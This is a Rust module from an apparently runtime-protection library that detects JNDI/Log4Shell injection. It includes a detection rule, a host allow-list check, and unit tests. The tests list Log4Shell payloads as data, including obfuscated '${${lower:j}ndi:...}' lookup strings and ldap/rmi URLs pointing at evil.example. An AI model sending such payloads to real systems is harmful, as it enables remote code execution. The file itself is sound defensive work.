//! Deciding whether a JNDI lookup is an injection (issue 11: Log4Shell and its kin).
//!
//! A JNDI name with a URL scheme picks its provider: `ldap://attacker/a` makes the JVM connect
//! to the attacker's LDAP server, whose answer (a serialized object, a `Reference` to a remote
//! factory) the JDK decodes: remote code on older JDKs, deserialization gadgets on all. The
//! structural rule carried over from SQL: request input that writes the scheme, the host or the
//! port of the name ([`name::NameParts::decided_by`]) chose the provider and the server, which
//! is code; input confined to what follows (`ldap://directory.internal/` + `cn=alice`,
//! `java:comp/env/jdbc/` + `users`) is data. Two rules:
//!
//! * `jndi.remote_lookup`: request input decided the provider or server of a lookup of any
//!   scheme but `java:` (the container's local namespace). Found verbatim, in a derived form of
//!   an input, or in the name a logging library's lookup syntax makes of an input
//!   ([`lookup`]: `${${lower:j}ndi:${lower:l}dap://...}` decoded; the event says
//!   `lookup-decoded`). Blocked by default.
//! * `jndi.policy.remote`: any lookup of a remote provider, whoever asked for it (inside a
//!   request or not), unless its host is one the operator allowed (`jndi.allowed_hosts`).
//!   Monitored by default: a stored payload logged later (no request input to find) is caught
//!   by it, but applications also look up remote providers on purpose (JMX over RMI, remote
//!   EJBs over `corbaname:`/IIOP, LDAP directories by URL), and blocking those on installation
//!   would break them. `rasp.rules.mode.jndi.policy.remote=block` makes it a hard policy once
//!   the allowed hosts are listed.

pub mod lookup;
pub mod name;

use crate::context::RequestContext;
use crate::net::host;

/// The JNDI rules.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum JndiRule {
    RemoteLookup,
    PolicyRemote,
}

impl JndiRule {
    pub const ALL: [JndiRule; 2] = [JndiRule::RemoteLookup, JndiRule::PolicyRemote];

    pub fn id(self) -> &'static str {
        match self {
            JndiRule::RemoteLookup => "jndi.remote_lookup",
            JndiRule::PolicyRemote => "jndi.policy.remote",
        }
    }

    pub fn message(self) -> &'static str {
        match self {
            JndiRule::RemoteLookup => "request input chose the provider or server of a JNDI lookup",
            JndiRule::PolicyRemote => {
                "a JNDI lookup reaches a remote provider on a host not allowed"
            }
        }
    }
}

/// Input that decided a lookup's provider: the input, its span in the name, and how it was
/// found when not verbatim (`lookup-decoded`, with the name the lookup syntax yielded).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct JndiFinding {
    pub input: usize,
    pub start: usize,
    pub end: usize,
    pub via: Option<(&'static str, String)>,
}

/// The transform an event names for input found through the lookup syntax.
pub const LOOKUP_DECODED: &str = "lookup-decoded";

/// Judges one lookup name against the request's input (`jndi.remote_lookup`).
pub fn detect(ctx: &RequestContext, name: &str) -> Option<JndiFinding> {
    let parts = name::parse(name)?;
    if !parts.is_remote() {
        return None;
    }
    detect_in(ctx, name, &[(0, parts)])
}

/// Judges an initial context's provider URL (`java.naming.provider.url`), a list of URLs
/// separated by spaces that the provider tries in turn (`LdapURL.fromList`): input that
/// decides the provider or server of any of them chose where the context connects. Judged as
/// one value, so an input spanning two URLs (`evil:1389/ ldap://x`) is still found whole.
pub fn detect_provider_urls(ctx: &RequestContext, value: &str) -> Option<JndiFinding> {
    let urls = provider_urls(value);
    if urls.is_empty() {
        return None;
    }
    detect_in(ctx, value, &urls)
}

/// The remote URLs of a provider URL list, with their offsets in it.
fn provider_urls(value: &str) -> Vec<(usize, name::NameParts)> {
    let mut out = Vec::new();
    let mut offset = 0;
    for token in value.split(' ') {
        if let Some(parts) = name::parse(token).filter(|p| p.is_remote()) {
            out.push((offset, parts));
        }
        offset += token.len() + 1;
    }
    out
}

/// Whether `[start, end)` of the value writes the scheme, host or port of one of `urls`
/// (each with its offset in the value).
fn decided(urls: &[(usize, name::NameParts)], start: usize, end: usize) -> bool {
    urls.iter()
        .any(|(at, p)| end > *at && p.decided_by(start.saturating_sub(*at), end - at))
}

fn detect_in(
    ctx: &RequestContext,
    name: &str,
    urls: &[(usize, name::NameParts)],
) -> Option<JndiFinding> {
    let verbatim = ctx
        .matcher()
        .occurrences(name.as_bytes())
        .into_iter()
        .filter(|o| decided(urls, o.start, o.end))
        .max_by_key(|o| (o.end - o.start, std::cmp::Reverse(o.start)));
    if let Some(o) = verbatim {
        return Some(JndiFinding {
            input: o.input,
            start: o.start,
            end: o.end,
            via: None,
        });
    }
    // Only at JNDI sinks, only for values holding `${`: the decoding costs nothing elsewhere.
    for (index, input) in ctx.inputs().iter().enumerate() {
        for decoded in lookup::jndi_names(&input.value) {
            // Only a decoded name that is itself a remote URL: `${jndi:l}` yields `l`, which
            // may occur in any name without having chosen anything.
            if name::parse(&decoded).is_none_or(|p| !p.is_remote()) {
                continue;
            }
            let Some(start) = name.find(decoded.as_str()) else {
                continue;
            };
            let end = start + decoded.len();
            if decided(urls, start, end) {
                return Some(JndiFinding {
                    input: index,
                    start,
                    end,
                    via: Some((LOOKUP_DECODED, decoded)),
                });
            }
        }
    }
    None
}

/// A remote lookup the policy reports: the host's span in the name (the scheme's when the
/// name has no host).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PolicyFinding {
    pub start: usize,
    pub end: usize,
}

/// `jndi.policy.remote`: a name of a remote provider whose host is not in `allowed`.
pub fn policy(name: &str, allowed: &[String]) -> Option<PolicyFinding> {
    let parts = name::parse(name)?;
    if !parts.is_remote() {
        return None;
    }
    if let Some(h) = parts.host_in(name) {
        if is_allowed(h, allowed) {
            return None;
        }
    }
    let span = parts.host.clone().unwrap_or(parts.scheme_span.clone());
    Some(PolicyFinding {
        start: span.start,
        end: span.end,
    })
}

/// Whether `host` is one of the allowed hosts: the same address in any notation the JDK reads,
/// the same name in any case (a trailing dot ignored), or under an allowed `.domain`.
pub fn is_allowed(host: &str, allowed: &[String]) -> bool {
    let target = host::parse(host.trim_end_matches('.'));
    allowed.iter().any(|a| {
        let a = a.trim().trim_end_matches('.');
        if let (Some(suffix), host::Host::Name(n)) = (a.strip_prefix('.'), &target) {
            return n.len() > suffix.len()
                && n.ends_with(&suffix.to_ascii_lowercase())
                && n.as_bytes()[n.len() - suffix.len() - 1] == b'.';
        }
        !a.is_empty() && host::parse(a) == target
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::input::{Input, InputSource};
    use crate::ContextLimits;

    fn ctx(value: &str) -> RequestContext {
        RequestContext::from_inputs(
            vec![
                Input::value(InputSource::Query, "name", value),
                Input::value(InputSource::Header, "Accept", "text/html,*/*;q=0.8"),
            ],
            ContextLimits::default(),
        )
    }

    /// (name template with {} for the input, the input, whether it is `jndi.remote_lookup`,
    /// and the transform the finding names).
    #[test]
    fn input_that_chooses_the_provider() {
        type Case = (&'static str, &'static str, Option<Option<&'static str>>);
        let cases: &[Case] = &[
            ("{}", "ldap://127.0.0.1:1389/a", Some(None)),
            ("{}", "LDAPS://evil.example/o=x", Some(None)),
            ("{}", "rmi://evil.example:1099/Exploit", Some(None)),
            ("{}", "dns://evil.example/txt", Some(None)),
            ("{}", "iiop://evil.example:900/x", Some(None)),
            ("{}", "corbaname:iiop:1.2@evil.example:2809#x", Some(None)),
            ("{}", "nis://evil.example/domain", Some(None)),
            ("{}", "someprovider://evil.example/x", Some(None)),
            // Input that writes the host of a name the application began.
            ("ldap://{}/dc=example", "evil.example:1389", Some(None)),
            (
                "ldap://{}.corp.example/dc=example",
                "evil.example/x#",
                Some(None),
            ),
            // Log4j's lookup syntax, resolved before the name reaches JNDI.
            (
                "ldap://127.0.0.1:1389/a",
                "${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/a}",
                Some(Some(LOOKUP_DECODED)),
            ),
            (
                "ldap://127.0.0.1:1389/a",
                "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://127.0.0.1:1389/a}",
                Some(Some(LOOKUP_DECODED)),
            ),
            (
                "rmi://127.0.0.1:1099/x",
                "${${env:NOTHING:-j}ndi:${lower:R}${date:'mi'}://127.0.0.1:1099/x}",
                Some(Some(LOOKUP_DECODED)),
            ),
            (
                "ldap://127.0.0.1:1389/a",
                "Mozilla/5.0 ${jndi:ldap://127.0.0.1:1389/a}",
                Some(Some(LOOKUP_DECODED)),
            ),
            // Benign twins: input confined to what follows the provider and server the
            // application fixed, or a local name.
            ("java:comp/env/jdbc/{}", "users", None),
            ("java:comp/env/{}", "ldap://127.0.0.1:1389/a", None),
            ("ldap://directory.internal/{}", "cn=alice,ou=people", None),
            (
                "ldap://directory.internal:389/cn={},ou=people",
                "ldap://evil/",
                None,
            ),
            ("{}", "jdbc/users", None),
            ("{}", "cn=alice/ldap://evil.example/", None),
            (
                "ldap://directory.internal/cn={}",
                "${jndi:ldap://127.0.0.1/a}",
                None,
            ),
            ("ldap://127.0.0.1:1389/a", "plain header value", None),
            (
                "ldap://127.0.0.1:1389/a",
                "$${jndi:ldap://127.0.0.1:1389/a}",
                None,
            ),
        ];
        for &(template, input, want) in cases {
            let name = template.replace("{}", input);
            let got = detect(&ctx(input), &name).map(|f| f.via.map(|(t, _)| t));
            assert_eq!(got, want, "{input:?} in {name}");
        }
    }

    #[test]
    fn input_that_chooses_a_provider_url() {
        // (the provider URL the application built, the input, whether it is found)
        let cases: &[(&str, &str, bool)] = &[
            ("ldap://127.0.0.1:1389/dc=example", "127.0.0.1:1389", true),
            ("ldap://{}/dc=example", "evil.example", true),
            (
                "ldap://directory.internal/dc=x {}",
                "ldap://evil.example/",
                true,
            ),
            (
                "ldap://{} ldap://directory.internal/dc=x",
                "evil.example/dc=y",
                true,
            ),
            // Input spanning two URLs of the list: found whole.
            (
                "ldap://directory.internal/{}/dc=x",
                "a ldap://evil.example:1389",
                true,
            ),
            // Benign: the application fixed every provider and server.
            ("ldap://directory.internal:389/{}", "dc=example", false),
            (
                "ldap://a.internal/{} ldap://b.internal/dc=x",
                "ou=people",
                false,
            ),
            ("{}", "dc=example", false),
        ];
        for &(template, input, want) in cases {
            let value = if template.contains("{}") {
                template.replace("{}", input)
            } else {
                template.to_owned()
            };
            let got = detect_provider_urls(&ctx(input), &value);
            assert_eq!(got.is_some(), want, "{input:?} in {value}");
        }
    }

    #[test]
    fn input_is_found_in_its_derived_forms() {
        // The request decoder makes such forms (extract::derive); built here by hand.
        let sent = "ldap%3A%2F%2Fevil.example%2Fa";
        let mut derived = Input::value(InputSource::Query, "name", "ldap://evil.example/a");
        derived.transform = Some("url-decoded");
        derived.original = Some(sent.into());
        let c = RequestContext::from_inputs(
            vec![Input::value(InputSource::Query, "name", sent), derived],
            ContextLimits::default(),
        );
        let got = detect(&c, "ldap://evil.example/a").expect("found");
        assert_eq!(c.inputs()[got.input].transform, Some("url-decoded"));
    }

    #[test]
    fn remote_lookups_are_reported_unless_their_host_is_allowed() {
        let allowed: Vec<String> = ["directory.internal", "10.0.0.5", ".corp.example"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let cases: &[(&str, bool)] = &[
            ("ldap://evil.example/a", true),
            ("rmi://127.0.0.1:1099/x", true),
            ("ldap:///o=default", true),
            ("ldap://DIRECTORY.internal./dc=x", false),
            ("ldap://10.0.0.5:389/dc=x", false),
            ("ldap://[::ffff:10.0.0.5]:389/dc=x", false),
            ("ldap://ad.corp.example/dc=x", false),
            ("ldap://corp.example.evil.example/dc=x", true),
            ("ldap://evilcorp.example/dc=x", true),
            ("java:comp/env/jdbc/ds", false),
            ("jdbc/ds", false),
            ("cn=alice,ou=people", false),
        ];
        for &(name, want) in cases {
            assert_eq!(policy(name, &allowed).is_some(), want, "{name}");
        }
    }
}
